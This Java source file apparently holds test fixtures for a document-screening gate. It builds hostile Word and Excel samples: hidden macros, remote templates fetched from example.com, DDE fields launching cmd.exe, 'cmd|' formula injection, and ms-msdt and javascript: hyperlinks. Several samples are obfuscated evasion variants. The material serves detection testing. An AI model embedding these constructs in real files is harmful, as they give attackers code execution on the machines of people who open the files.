package cn.ecopark.gate;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Office files that start something, fetch something or carry something. */
final class HostileOffice {

	private static final byte[] BINARY = new byte[64];

	private final List<HostileFile> files = new ArrayList<>();

	static List<HostileFile> all() {
		HostileOffice office = new HostileOffice();
		office.macros();
		office.external();
		office.embedded();
		office.fields();
		office.formulas();
		office.addresses();
		return office.files;
	}

	private void macros() {
		text("macros", "as Word writes them",
				OfficeSample.text()
					.content("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
					.related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin",
							false)
					.part("word/vbaProject.bin", BINARY),
				"office.macros");
		text("macros", "without any mention", OfficeSample.text().part("word/VbaProject.BIN", BINARY), "office.macros");
		text("macros", "under another name",
				OfficeSample.text()
					.content("word/a.png", "application/vnd.ms-office.vbaProject")
					.part("word/a.png", BINARY),
				"office.macros");
		text("macros", "type of a macro file",
				OfficeSample.text()
					.content("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
				"office.macros");
		sheet("macros", "sheet of macros",
				OfficeSample.sheet()
					.content("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
					.part("xl/macrosheets/sheet1.xml", "<a/>"),
				"office.macros");
		sheet("macros", "sheet of macros by relation",
				OfficeSample.sheet()
					.related("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "a.xml", false),
				"office.macros");
		sheet("macros", "name that runs when opened", OfficeSample.sheet()
			.part("xl/workbook.xml",
					"<workbook><definedNames><definedName name='_xlnm.Auto_Open'>A!$A$1</definedName></definedNames></workbook>"),
				"office.macros");
		text("ribbon with actions", HostileFile.OPEN,
				OfficeSample.text()
					.relation("", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
							"customUI/a.xml", false),
				"office.macros");
	}

	private void external() {
		text("template from the network", "address",
				OfficeSample.text()
					.relation("word/settings.xml", "attachedTemplate", "http://example.com/a.dotm", true),
				"office.template");
		text("template from the network", "share",
				OfficeSample.text().relation("word/settings.xml", "attachedTemplate", "\\\\host\\share\\a.dotm", true),
				"office.template");
		text("template from the network", "share as a file",
				OfficeSample.text().relation("word/settings.xml", "attachedTemplate", "file://host/a.dotm", true),
				"office.template");
		for (String kind : List.of("image", "oleObject", "frame", "subDocument", "aFChunk", "video")) {
			String code = List.of("oleObject", "aFChunk").contains(kind) ? "office.embedded" : "office.external";
			text("content from the network", kind, OfficeSample.text().related(kind, "http://example.com/a", true),
					code);
		}
		text("content from the network", "mode not said",
				OfficeSample.text().related("image", "http://example.com/a", false), "office.external");
		text("content from the network", "drawing of old kind",
				OfficeSample.text("<v:imagedata src='http://example.com/a.png'/>"), "office.external");
		sheet("link to another workbook", HostileFile.OPEN,
				OfficeSample.sheet()
					.content("xl/externalLinks/externalLink1.xml",
							"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
					.part("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
				"office.external");
		sheet("connection to data", HostileFile.OPEN,
				OfficeSample.sheet()
					.content("xl/connections.xml",
							"application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
					.part("xl/connections.xml", "<connections/>"),
				"office.data");
		text("add-in", HostileFile.OPEN,
				OfficeSample.text()
					.relation("", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
							"a.xml", false),
				"office.web");
	}

	private void embedded() {
		byte[] old = { (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 1, 2, 3, 4, 5 };
		text("object within", "as Word writes it", OfficeSample.text()
			.content("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
			.related("oleObject", "embeddings/oleObject1.bin", false)
			.part("word/embeddings/oleObject1.bin", old), "office.embedded");
		text("object within", "called a picture", OfficeSample.text().part("word/media/a.png", old), "office.embedded");
		text("program within", "called a picture",
				OfficeSample.text().part("word/media/a.png", "MZ123456".getBytes(StandardCharsets.US_ASCII)),
				"office.embedded");
		text("archive within", HostileFile.OPEN, OfficeSample.text().part("word/a.bin", OfficeSample.text().written()),
				"office.embedded");
		text("control", HostileFile.OPEN,
				OfficeSample.text()
					.content("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
					.related("control", "activeX/activeX1.xml", false)
					.part("word/activeX/activeX1.xml", "<a/>"),
				"office.embedded");
		text("web page within", HostileFile.OPEN, OfficeSample.text().related("aFChunk", "a.htm", false),
				"office.embedded");
		text("macros behind a diagram", HostileFile.OPEN, OfficeSample.text()
			.content("word/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")
			.part("word/charts/chart1.xml", "<c/>")
			.relation("word/charts/chart1.xml", "package", "../embeddings/a.xlsx", false)
			.part("word/embeddings/a.xlsx", OfficeSample.sheet().part("xl/vbaProject.bin", BINARY).written()),
				"office.macros");
	}

	private void fields() {
		String begin = "<w:fldChar w:fldCharType='begin'/>";
		String end = "<w:fldChar w:fldCharType='end'/>";
		text("field that starts a program", "plain",
				OfficeSample.text(begin + "<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k\" </w:instrText>" + end),
				"office.field");
		text("field that starts a program", "in pieces", OfficeSample.text(
				begin + "<w:instrText>D</w:instrText><w:r/><w:instrText>D</w:instrText><w:instrText>E cmd</w:instrText>"
						+ end),
				"office.field");
		text("field that starts a program", "quoted", OfficeSample.text("<w:fldSimple w:instr='\"DDE\" cmd'/>"),
				"office.field");
		text("field that starts a program", "made by another",
				OfficeSample.text(begin + begin + "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>" + end
						+ "<w:instrText>cmd</w:instrText>" + end),
				"office.field");
		text("field that starts a program", "letters as references",
				OfficeSample.text(begin + "<w:instrText>&#68;&#x44;E cmd</w:instrText>" + end), "office.field");
		text("field that reads a file", HostileFile.OPEN,
				OfficeSample.text("<w:fldSimple w:instr='INCLUDETEXT \"http://example.com/a\"'/>"), "office.field");
		text("field that fetches a picture", HostileFile.OPEN,
				OfficeSample.text("<w:fldSimple w:instr='INCLUDEPICTURE \"http://example.com/a\" \\d'/>"),
				"office.field");
	}

	private void formulas() {
		for (String formula : List.of("cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd'!_xlbgnm.A1",
				"_xlfn.WEBSERVICE(\"http://x\")", "RTD(\"a.b\",,\"c\")", "CALL(\"a\",\"b\")",
				"_xlfn.IMAGE(\"http://x\")")) {
			sheet("formula that reaches outside", formula.replaceAll("[^A-Za-z].*", ""),
					OfficeSample.sheet("<c><f>" + formula + "</f></c>"), "office.formula");
		}
		sheet("link to a program", HostileFile.OPEN,
				OfficeSample.sheet().part("xl/a.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
				"office.field");
	}

	private void addresses() {
		for (String address : List.of("javascript:alert(1)", "ms-msdt:/id PCWDiagnostic", "\\\\host\\share",
				"file://host/a", "search-ms:query=a", "java\tscript:x")) {
			text("link to what is no address", address.replaceAll("[^a-z-].*", "share"),
					OfficeSample.text().related("hyperlink", address.replace("\t", "&#9;"), true), "office.address");
		}
	}

	private void text(String technique, String disguise, OfficeSample office, String code) {
		this.files.add(new HostileFile(technique, "DOCX, " + disguise, "报告.docx", office.written(), code));
	}

	private void sheet(String technique, String disguise, OfficeSample office, String code) {
		this.files.add(new HostileFile(technique, "XLSX, " + disguise, "数据.xlsx", office.written(), code));
	}

}
